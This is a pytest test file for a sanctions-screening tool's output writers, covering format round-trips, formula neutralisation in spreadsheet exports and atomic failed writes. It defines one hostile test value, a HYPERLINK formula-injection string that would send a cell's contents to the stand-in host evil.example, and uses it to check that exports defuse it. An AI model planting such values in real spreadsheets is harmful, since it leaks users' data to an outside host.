"""Writing tables: every format reads back the same; formulas are neutralised; a failed write
leaves nothing at the target."""

from __future__ import annotations

import errno
import io
import json
from pathlib import Path

import pytest

from sanctrace.batch import writers
from sanctrace.batch.readers import open_input
from sanctrace.batch.rows import COLUMN_TYPES, COLUMNS, OutputRow
from sanctrace.batch.writers import OutputFormat, detect_output_format, open_output
from sanctrace.errors import SanctraceError

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'

ROWS = [
    OutputRow(
        "C-1",
        2,
        "IEMZ Kupol",
        "us_ofac_sdn:46431",
        "us_ofac_sdn",
        "46431",
        "Company",
        "JOINT STOCK COMPANY IZHEVSK ELECTROMECHANICAL PLANT KUPOL",
        0.9481,
        True,
        "JOINT STOCK COMPANY IZHEVSK ELECTROMECHANICAL PLANT KUPOL",
        "RUSSIA-EO14024",
        "kupol = kupol (exact 1.00)",
        0.8,
        "us_ofac_sdn@2024-05-03",
        "",
        party_id="P-cxlfmbsfth",
        record_ids="us_ofac_sdn:46431; au_dfat_sanctions:7904",
        datasets="au_dfat_sanctions; us_ofac_sdn",
    ),
    OutputRow("-42", 3, HOSTILE, "", "", "", "", "", None, None, "", "", "", 0.8, "x", ""),
    OutputRow(
        "C-3", 4, "Ümlaut\nline\x01", "", "", "", "", "", None, None, "", "", "", 0.8, "x", ""
    ),
]


def _write(path: Path, fmt: OutputFormat) -> None:
    with open_output(str(path), fmt, COLUMNS, COLUMN_TYPES) as writer:
        writer.write(ROWS)


@pytest.mark.parametrize("fmt", list(OutputFormat))
def test_every_format_reads_back(tmp_path: Path, fmt: OutputFormat) -> None:
    path = tmp_path / f"out.{fmt.value}"
    _write(path, fmt)
    with open_input(str(path)) as reader:
        assert reader.columns == COLUMNS
        rows = [r.cells for r in reader.rows()]
    assert len(rows) == 3
    first = dict(zip(COLUMNS, rows[0], strict=True))
    assert first["id"] == "us_ofac_sdn:46431" and first["input_row"] == "2"
    assert first["score"] == "0.9481" and first["match"] == "true"
    assert first["threshold"] == "0.8"
    assert first["party_id"] == "P-cxlfmbsfth"
    assert first["record_ids"].split("; ") == ["us_ofac_sdn:46431", "au_dfat_sanctions:7904"]
    assert first["datasets"] == "au_dfat_sanctions; us_ofac_sdn"
    spreadsheet = fmt in (OutputFormat.csv, OutputFormat.tsv, OutputFormat.xlsx)
    second = dict(zip(COLUMNS, rows[1], strict=True))
    # spreadsheet formats neutralise formulas; data formats keep values exact
    assert second["input_name"] == ("'" + HOSTILE if spreadsheet else HOSTILE)
    assert second["input_key"] == ("'-42" if spreadsheet else "-42")
    assert second["score"] == "" and second["match"] == ""
    assert rows[2][2].startswith("Ümlaut")


def test_typed_values_in_parquet_and_json_lines(tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    _write(tmp_path / "out.parquet", OutputFormat.parquet)
    table = pq.read_table(tmp_path / "out.parquet")
    assert str(table.schema.field("score").type) == "double"
    assert str(table.schema.field("match").type) == "bool"
    assert str(table.schema.field("input_row").type) == "int64"
    assert table.column("score").to_pylist() == [0.9481, None, None]
    _write(tmp_path / "out.jsonl", OutputFormat.jsonl)
    records = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text().splitlines()]
    assert records[0]["match"] is True and records[1]["score"] is None
    assert records[1]["input_name"] == HOSTILE


def test_xlsx_cells_are_text_never_formulas(tmp_path: Path) -> None:
    import zipfile

    _write(tmp_path / "out.xlsx", OutputFormat.xlsx)
    with zipfile.ZipFile(tmp_path / "out.xlsx") as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet, "no cell may hold a formula"
    assert "'=HYPERLINK" in sheet


def test_failed_write_leaves_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    class Full(writers._CsvWriter):
        def _write(self, row: object) -> None:
            raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(writers, "_CsvWriter", Full)
    target = tmp_path / "out.csv"
    target.write_text("previous\n")
    with pytest.raises(SanctraceError, match="No space left on device"):
        _write(target, OutputFormat.csv)
    assert target.read_text() == "previous\n", "the existing file is untouched"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"], "no temporary file left"

    def broken_parquet(*args: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(writers._ParquetWriter, "_flush", broken_parquet)
    with pytest.raises(SanctraceError, match="No space left on device"):
        _write(tmp_path / "new.parquet", OutputFormat.parquet)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]
    with pytest.raises(SanctraceError, match="does not exist"):
        _write(tmp_path / "missing" / "out.csv", OutputFormat.csv)


def test_stdout_and_format_names() -> None:
    out = io.StringIO()
    with open_output("-", OutputFormat.tsv, COLUMNS, COLUMN_TYPES, stdout=out) as writer:
        writer.write(ROWS[:1])
    lines = out.getvalue().splitlines()
    assert lines[0].split("\t") == list(COLUMNS) and "us_ofac_sdn:46431" in lines[1]
    assert detect_output_format("-", None) == "csv"
    assert detect_output_format("r.XLSX", None) == "xlsx"
    assert detect_output_format("r.txt", "jsonl") == "jsonl"
    with pytest.raises(SanctraceError, match="--output-format"):
        detect_output_format("results.txt", None)
